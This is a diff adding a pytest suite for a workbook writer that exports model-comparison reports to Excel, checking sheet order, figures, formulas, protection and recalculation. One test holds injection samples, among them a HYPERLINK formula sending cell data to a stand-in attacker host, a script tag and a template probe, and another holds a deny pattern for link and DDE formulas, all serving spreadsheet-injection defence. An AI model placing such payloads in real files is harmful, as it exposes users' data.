@@ -1,0 +1,454 @@
+"""comparison.xlsx: sheets of the contract, figures as numbers, live formulas with right values, texts that cannot act."""
+
+# ruff: noqa: ANN401 - openpyxl has no types
+
+from __future__ import annotations
+
+import random
+import re
+import shutil
+import subprocess
+import warnings
+import zipfile
+from collections.abc import Iterator, Mapping
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+from xml.etree import ElementTree as ET
+
+import openpyxl
+import pytest
+import python_calamine
+
+from reportgen.domain.comparison import Comparison, Status
+from reportgen.domain.plan import Rule, Task
+from reportgen.reports import what_if
+from reportgen.reports.comparison_workbook import sheet_names, write
+from reportgen.reports.sheet_writer import CELL_LIMIT, CUT_MARK, SheetError, must, safe, share_format
+from reportgen.reports.sheets_what_if import INPUT_ROW, plan_of
+from tests.builders import comparison_for
+
+CONTRACT = (
+    "Decision",
+    "Matrix",
+    "What-if",
+    "Measures",
+    "By segment",
+    "Responses",
+    "Service levels",
+    "Costs",
+    "Checklist",
+    "Comparisons",
+    "Checks",
+    "Run record",
+)
+LIVE = frozenset({"What-if", "Costs", "Checks"})
+"""The only sheets that hold formulas."""
+SOFFICE = shutil.which("soffice")
+
+
+def loaded(path: Path, *, values: bool = True) -> Any:
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        return openpyxl.load_workbook(path, data_only=values)
+
+
+def written(comparison: Comparison, folder: Path, name: str = "comparison.xlsx", **options: int) -> Path:
+    path = folder / name
+    write(comparison, path, **options)
+    return path
+
+
+@pytest.fixture(scope="module", params=list(Task), ids=lambda t: t.name.lower())
+def any_task(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[Comparison, Path]:
+    comparison = comparison_for(request.param, examples=60)
+    return comparison, written(comparison, tmp_path_factory.mktemp("xlsx"))
+
+
+def near(value: float | None) -> object:
+    return None if value is None else pytest.approx(value, rel=1e-12)
+
+
+def cells(sheet: Any) -> Iterator[Any]:
+    return (cell for row in sheet.iter_rows() for cell in row if cell.value is not None)
+
+
+def table(sheet: Any, header: str) -> list[Mapping[str, Any]]:
+    """The rows under the first header row whose first cell reads `header`."""
+    rows = list(sheet.iter_rows(values_only=True))
+    start = next(i for i, row in enumerate(rows) if row[0] == header)
+    names = [n for n in rows[start] if n is not None]
+    kept: list[Mapping[str, Any]] = []
+    for row in rows[start + 1 :]:
+        if row[0] is None:
+            break
+        kept.append(dict(zip(names, row, strict=False)))
+    return kept
+
+
+def test_the_sheets_stand_in_the_order_of_the_contract_and_open_on_the_decision(any_task: tuple[Comparison, Path]) -> None:
+    comparison, path = any_task
+    book = loaded(path)
+    task = comparison.plan.settings.task
+    parts = {Task.CLASSIFICATION: "By label", Task.EXTRACTION: "By field"}.get(task)
+    assert tuple(n for n in book.sheetnames if n != parts) == CONTRACT
+    assert (parts in book.sheetnames) is (parts is not None)
+    assert tuple(book.sheetnames) == sheet_names(task)
+    assert book.active.title == "Decision"
+
+
+def test_calamine_reads_the_same_sheets_and_no_error_value(any_task: tuple[Comparison, Path]) -> None:
+    comparison, path = any_task
+    book = python_calamine.CalamineWorkbook.from_path(path)
+    assert tuple(book.sheet_names) == sheet_names(comparison.plan.settings.task)
+    for name in book.sheet_names:
+        for row in book.get_sheet_by_name(name).to_python():
+            assert not any(
+                isinstance(v, str) and re.fullmatch(r"#(REF!|NAME\?|VALUE!|DIV/0!|N/A|NUM!|NULL!)", v) for v in row
+            )
+
+
+def test_the_matrix_has_a_row_for_each_candidate_and_for_manual_work_with_verdict_words_on_each(
+    any_task: tuple[Comparison, Path],
+) -> None:
+    comparison, path = any_task
+    rows = table(loaded(path)["Matrix"], "Candidate")
+    assert [r["Candidate"] for r in rows] == [*(c.spec.name for c in comparison.candidates), "Manual work"]
+    assert all(re.search(r"PROVEN|LIKELY|UNLIKELY|FAILED|NOT TESTABLE|reference", r["Verdict"]) for r in rows)
+    for row, candidate in zip(rows, comparison.candidates, strict=False):
+        assert row["Cost per task"] == near(candidate.measurements["cost_per_task"].value)
+        assert row["p95 latency"] == near(candidate.measurements["p95_latency"].value)
+        assert row["Review rate"] == near(candidate.measurements["review_rate"].value)
+    assert rows[-1]["Cost per task"] == comparison.manual_cost_per_task
+
+
+def test_a_figure_that_is_not_there_is_blank_with_its_reason_in_the_row(tmp_path: Path) -> None:
+    rows = table(loaded(written(comparison_for(Task.CLASSIFICATION), tmp_path))["Matrix"], "Candidate")
+    flaky = next(r for r in rows if r["Candidate"] == "Flaky host")
+    assert flaky["p95 latency"] is None
+    assert "more than 5 % of requests failed" in flaky["Remarks"]
+    unpriced = next(r for r in rows if r["Candidate"] == "Unpriced newcomer")
+    assert unpriced["Cost per task"] is None
+    assert "no price" in unpriced["Remarks"]
+
+
+def test_every_measurement_stands_on_the_measures_sheet_unrounded_and_as_a_number(any_task: tuple[Comparison, Path]) -> None:
+    comparison, path = any_task
+    rows = table(loaded(path)["Measures"], "Candidate")
+    expected = [m for c in comparison.candidates for m in c.measurements.values()]
+    assert len(rows) == len(expected)
+    for row, m in zip(rows, expected, strict=True):
+        assert row["Scope"] == str(m.scope)
+        assert row["Value"] == (None if m.value is None else pytest.approx(m.value, rel=1e-14))
+        assert row["Bound that decides"] == (None if m.bound is None else pytest.approx(m.bound, rel=1e-14))
+        assert m.value is not None or row["Reason or remark"]
+
+
+def test_only_our_own_sheets_hold_formulas_and_nothing_is_a_link(any_task: tuple[Comparison, Path]) -> None:
+    _, path = any_task
+    for sheet in loaded(path, values=False):
+        formulas = [c for c in cells(sheet) if c.data_type == "f"]
+        assert bool(formulas) <= (sheet.title in LIVE)
+        assert not any(c.hyperlink for c in cells(sheet))
+        for formula in formulas:
+            assert not re.search(r"HYPERLINK|WEBSERVICE|DDE|cmd|http", str(formula.value), re.IGNORECASE)
+
+
+def test_hostile_texts_are_shown_as_text_with_odd_characters_made_visible(tmp_path: Path) -> None:
+    sheet = loaded(written(comparison_for(Task.CLASSIFICATION, examples=240), tmp_path))["Responses"]
+    texts = [c for c in cells(sheet) if isinstance(c.value, str)]
+    joined = "\n".join(c.value for c in texts)
+    assert '=HYPERLINK("http://attacker.example/?x="&A1,"open")' in joined
+    assert "<script>alert(1)</script>" in joined
+    assert "{{ 7*7 }}" in joined
+    assert "[U+0000]" in joined
+    assert "[U+202E]right-to-left override" in joined
+    assert "[U+D83D] end" in joined
+    assert "👩‍👩‍👧" in joined
+    assert "שלום" in joined
+    assert all(c.data_type == "s" for c in texts)
+    assert all(c.quotePrefix for c in texts if c.value.startswith(("=", "@", "{=")))
+
+
+def test_a_text_too_long_for_a_cell_is_cut_and_says_so_with_its_example(tmp_path: Path) -> None:
+    sheet = loaded(written(comparison_for(Task.CLASSIFICATION, examples=240), tmp_path))["Responses"]
+    long = [c.value for c in cells(sheet) if isinstance(c.value, str) and len(c.value) > 30_000]
+    assert long
+    for text in long:
+        assert len(text.encode("utf-16-le")) // 2 <= CELL_LIMIT
+        assert re.search(r"… \[cut; full text in evidence(, E\d+)?\]$", text)
+
+
+@pytest.mark.parametrize("count", [CELL_LIMIT - 1, CELL_LIMIT, CELL_LIMIT + 1])
+@pytest.mark.parametrize("letter", ["a", "漢", "👍"])
+def test_the_cut_counts_utf_16_units_as_excel_does(letter: str, count: int) -> None:
+    text = letter * count
+    shown = safe(text)
+    assert len(shown.encode("utf-16-le")) // 2 <= CELL_LIMIT
+    assert (shown == text) is (len(text.encode("utf-16-le")) // 2 <= CELL_LIMIT)
+    assert shown == text or shown.endswith(CUT_MARK)
+
+
+def test_the_same_comparison_gives_the_same_bytes_and_leaves_no_part_behind(tmp_path: Path) -> None:
+    first = written(comparison_for(Task.EXTRACTION), tmp_path, "a.xlsx").read_bytes()
+    assert written(comparison_for(Task.EXTRACTION), tmp_path, "b.xlsx").read_bytes() == first
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.xlsx", "b.xlsx"]
+
+
+def test_an_error_while_writing_keeps_the_older_file_and_leaves_no_part_behind(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = written(comparison_for(Task.CLASSIFICATION, examples=20), tmp_path)
+    before = path.read_bytes()
+
+    def fail(*_: object) -> None:
+        message = "no room"
+        raise RuntimeError(message)
+
+    monkeypatch.setattr("reportgen.reports.comparison_workbook.write_costs", fail)
+    with pytest.raises(RuntimeError, match="no room"):
+        write(comparison_for(Task.CLASSIFICATION, examples=20), path)
+    assert path.read_bytes() == before
+    assert [p.name for p in tmp_path.iterdir()] == ["comparison.xlsx"]
+
+
+def test_a_refused_call_is_an_error_and_not_a_number() -> None:
+    must(0)
+    must(None)
+    with pytest.raises(SheetError, match="-2"):
+        must(-2)
+
+
+def test_above_the_limit_every_failure_is_kept_and_the_sheet_says_what_is_missing(tmp_path: Path) -> None:
+    comparison = comparison_for(Task.CLASSIFICATION, examples=300)
+    sheet = loaded(written(comparison, tmp_path, most_examples=200))["Responses"]
+    shown = {r["Example ID"] for r in table(sheet, "Example ID")}
+    failed = {o.example.id for c in comparison.candidates for o in (*c.sample.observations, *c.regression.observations)
+              if not o.score.strict.right}  # fmt: skip
+    assert failed < shown
+    assert len(shown) == 200
+    assert "200 of 306 examples" in sheet["A2"].value
+    again = loaded(written(comparison, tmp_path, "again.xlsx", most_examples=200))["Responses"]
+    assert shown == {r["Example ID"] for r in table(again, "Example ID")}
+
+
+def test_every_sheet_is_set_up_for_print_and_protected_without_a_password(any_task: tuple[Comparison, Path]) -> None:
+    comparison, path = any_task
+    for sheet in loaded(path, values=False):
+        assert sheet.page_setup.orientation == "landscape"
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage
+        assert comparison.plan.settings.document_number in sheet.oddFooter.left.text
+        assert "&P" in sheet.oddFooter.right.text
+        assert sheet.protection.sheet
+        assert not sheet.protection.password
+        assert not sheet.merged_cells.ranges
+        assert sheet.title == "Decision" or sheet.freeze_panes or sheet.max_row < 5
+        assert len({c.value for t in sheet.tables.values() for c in sheet[t.ref][0]}) > 0 or sheet.title in {
+            "Decision",
+            "By segment",
+        }
+
+
+def test_only_the_yellow_cells_can_be_changed_and_each_has_a_name(any_task: tuple[Comparison, Path]) -> None:
+    comparison, path = any_task
+    book = loaded(path, values=False)
+    names = {n for n in book.defined_names if n.startswith("wi_")}
+    wanted = {f"wi_{k}" for k in what_if.INPUTS} | {
+        f"wi_level_{i}" for i in range(1, len(comparison.plan.service_levels) + 1)
+    }
+    assert names == wanted | {"wi_winner", "wi_state"}
+    unlocked = {(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row if not c.protection.locked}
+    assert {title for title, _ in unlocked} == {"What-if"}
+    assert len(unlocked) == len(wanted) + len(comparison.candidates)
+
+
+def test_every_chart_and_table_has_alternative_text_and_every_relationship_resolves(
+    any_task: tuple[Comparison, Path],
+) -> None:
+    _, path = any_task
+    with zipfile.ZipFile(path) as package:
+        names = set(package.namelist())
+        for name in names:
+            if name.endswith(".rels"):
+                folder = name.rsplit("_rels/", 1)[0]
+                for relation in ET.fromstring(package.read(name)):  # noqa: S314 - our own file
+                    assert relation.get("TargetMode") != "External"
+                    target = relation.attrib["Target"]
+                    resolved = target.lstrip("/") if target.startswith("/") else _joined(folder, target)
+                    assert resolved in names
+        drawings = [n for n in names if n.startswith("xl/drawings/drawing")]
+        tables = [n for n in names if n.startswith("xl/tables/")]
+        assert drawings
+        assert tables
+        for name in drawings:
+            assert re.findall(r'<xdr:cNvPr [^>]*descr="[^"]+"', package.read(name).decode())
+        for name in tables:
+            assert b"altTextSummary=" in package.read(name)
+
+
+def _joined(folder: str, target: str) -> str:
+    parts = folder.rstrip("/").split("/") if folder else []
+    for part in target.split("/"):
+        if part == "..":
+            parts.pop()
+        else:
+            parts.append(part)
+    return "/".join(parts)
+
+
+@pytest.mark.parametrize("status", list(Status))
+def test_the_decision_sheet_says_the_status_in_words_and_sign(status: Status, tmp_path: Path) -> None:
+    sheet = loaded(written(comparison_for(Task.CLASSIFICATION, status=status, examples=60), tmp_path))["Decision"]
+    labelled = {row[0]: row[1] for row in sheet.iter_rows(max_col=2, values_only=True) if row[0]}
+    assert labelled["Decision"].endswith(status.value)
+    assert labelled["Decision"][0] in "●◐?×"
+    assert labelled["Recommendation"]
+
+
+@pytest.mark.parametrize("candidates", [1, 2, 12])
+def test_one_candidate_and_a_dozen_both_give_a_workbook(candidates: int, tmp_path: Path) -> None:
+    book = loaded(written(comparison_for(Task.SUMMARIZATION, candidates=candidates, examples=30), tmp_path))
+    assert len(table(book["Matrix"], "Candidate")) == candidates + 1
+
+
+def test_a_workbook_without_levels_costs_or_segments_still_opens(tmp_path: Path) -> None:
+    comparison = comparison_for(Task.CLASSIFICATION, examples=30)
+    bare = replace(
+        comparison,
+        plan=replace(comparison.plan, service_levels=(), costs={}),
+        candidates=tuple(
+            replace(c, levels=(), measurements={k: m for k, m in c.measurements.items() if "segment" not in k})
+            for c in comparison.candidates
+        ),
+        manual_cost_per_task=None,
+        pairs=(),
+        findings=(),
+    )
+    book = loaded(written(bare, tmp_path))
+    assert "no segments" in book["By segment"]["A4"].value
+
+
+def test_a_bound_that_is_exact_is_a_formula_an_auditor_can_follow(tmp_path: Path) -> None:
+    path = written(comparison_for(Task.QUESTION_ANSWERING), tmp_path)
+    formulas = [str(c.value) for c in cells(loaded(path, values=False)["What-if"]) if c.data_type == "f"]
+    assert any("BETA.INV(0.05," in f for f in formulas)
+    assert any("BETA.INV(0.95," in f for f in formulas)
+
+
+def test_the_what_if_sheet_starts_from_exactly_the_figures_of_the_report(any_task: tuple[Comparison, Path]) -> None:
+    comparison, _ = any_task
+    model = what_if.model_of(comparison)
+    outcomes, winner = what_if.evaluate(model)
+    assert winner == comparison.decision.winner
+    for row, out in zip(model.rows, outcomes, strict=True):
+        assert abs(row.quantities.other) < 1e-12
+        assert out.cost == (None if row.reported_cost is None else pytest.approx(row.reported_cost, rel=1e-12))
+        assert [t.reported.value for t in row.levels] == list(out.verdicts)
+
+
+def test_under_the_point_estimate_rule_a_likely_level_is_enough() -> None:
+    comparison = comparison_for(Task.CLASSIFICATION, status=Status.RECOMMEND_PROVISIONALLY)
+    model = what_if.model_of(comparison)
+    assert what_if.evaluate(model)[0][0].standing == what_if.PROVISIONAL
+    assert what_if.evaluate(replace(model, rule=Rule.POINT_ESTIMATE))[0][0].standing == what_if.QUALIFIED
+
+
+@pytest.mark.parametrize(
+    ("value", "beside", "expected"),
+    [
+        (0.5, None, "0.0%"),
+        (1.0, None, "0.0%"),
+        (0.9999, None, "0.00%"),
+        (0.89996, 0.9, "0.000%"),
+        (0.0004, None, "0.00%"),
+        (None, None, "0.0%"),
+    ],
+)
+def test_a_share_is_never_shown_as_all_none_or_its_limit_when_it_is_not(
+    value: float | None, beside: float | None, expected: str
+) -> None:
+    assert share_format(value, beside) == expected
+
+
+def _recalculated(paths: list[Path], folder: Path) -> list[Any]:
+    """The books as LibreOffice recalculates them; openpyxl has dropped every cached value first."""
+    assert SOFFICE is not None
+    out = folder / "recalculated"
+    command = [
+        SOFFICE,
+        "--headless",
+        f"-env:UserInstallation={(folder / 'profile').as_uri()}",
+        "--convert-to",
+        "xlsx",
+        "--outdir",
+        str(out),
+    ]
+    subprocess.run([*command, *map(str, paths)], check=True, capture_output=True, timeout=240)
+    return [loaded(out / p.name) for p in paths]
+
+
+def _changes(model: what_if.Model, draw: random.Random) -> tuple[dict[str, float | None], list[float], list[float]]:
+    inputs = {k: None if v is None else v * draw.choice([0.5, 1.0, 1.7]) for k, v in model.inputs.items()}
+    found = inputs[what_if.FOUND]
+    inputs[what_if.FOUND] = None if found is None else min(1.0, found)
+    targets = [
+        min(0.999, t * draw.choice([0.9, 1.0, 1.02])) if t < 1 else t * draw.choice([0.3, 1.0]) for t in model.targets
+    ]
+    return inputs, targets, [draw.choice([0.5, 1.0, 40.0]) for _ in model.rows]
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
+def test_libreoffice_recalculates_every_formula_to_its_cached_value_and_what_ifs_to_those_of_python(tmp_path: Path) -> None:
+    comparison = comparison_for(Task.QUESTION_ANSWERING)
+    model = what_if.model_of(comparison)
+    plan = plan_of(model)
+    source = written(comparison, tmp_path)
+    draw = random.Random(6)
+    changes = [_changes(model, draw) for _ in range(10)]
+    paths = []
+    for number, change in enumerate([None, *changes]):
+        book = loaded(source, values=False)
+        if change is not None:
+            _type_in(book["What-if"], change, plan.candidates)
+        paths.append(tmp_path / f"changed{number}.xlsx")
+        book.save(paths[-1])
+    cached, formulas = loaded(source), loaded(source, values=False)
+    books = _recalculated(paths, tmp_path)
+    checked = 0
+    for sheet in formulas:
+        for cell in (c for c in cells(sheet) if c.data_type == "f"):
+            expected, found = cached[sheet.title][cell.coordinate].value, books[0][sheet.title][cell.coordinate].value
+            assert (found or "") == (
+                pytest.approx(expected, rel=1e-9) if isinstance(expected, int | float) and expected else expected or ""
+            )
+            checked += 1
+    assert checked > 100
+    for (inputs, targets, factors), book in zip(changes, books[1:], strict=True):
+        outcomes, winner = what_if.evaluate(model, inputs=inputs, targets=targets, factors=factors)
+        rows = table_at(book["What-if"], plan.candidates + 1)
+        assert [r["Standing"] for r in rows] == [o.standing for o in outcomes]
+        assert [r["Rank"] or None for r in rows] == [o.rank for o in outcomes]
+        for row, out in zip(rows, outcomes, strict=True):
+            assert row["Cost per task"] == (what_if.NOT_KNOWN if out.cost is None else pytest.approx(out.cost, rel=1e-9))
+        assert book["What-if"]["B5"].value == (winner or "none")
+        assert book["What-if"]["B4"].value.startswith("CHANGED")
+        verdicts = [r["Verdict"] for r in table_at(book["What-if"], plan.verdicts + 1)]
+        assert verdicts == [v for o in outcomes for v in o.verdicts]
+
+
+def table_at(sheet: Any, row: int) -> list[Mapping[str, Any]]:
+    names = [c.value for c in sheet[row] if c.value is not None]
+    kept: list[Mapping[str, Any]] = []
+    for cells_of_row in sheet.iter_rows(min_row=row + 1, max_col=len(names), values_only=True):
+        if cells_of_row[0] is None or cells_of_row[1] is None:
+            break
+        kept.append(dict(zip(names, cells_of_row, strict=True)))
+    return kept
+
+
+def _type_in(sheet: Any, change: tuple[dict[str, float | None], list[float], list[float]], candidates: int) -> None:
+    inputs, targets, factors = change
+    for offset, value in enumerate([*inputs.values(), *targets], INPUT_ROW + 2):
+        sheet.cell(offset, 2).value = value
+    for offset, factor in enumerate(factors, candidates + 2):
+        sheet.cell(offset, 2).value = factor
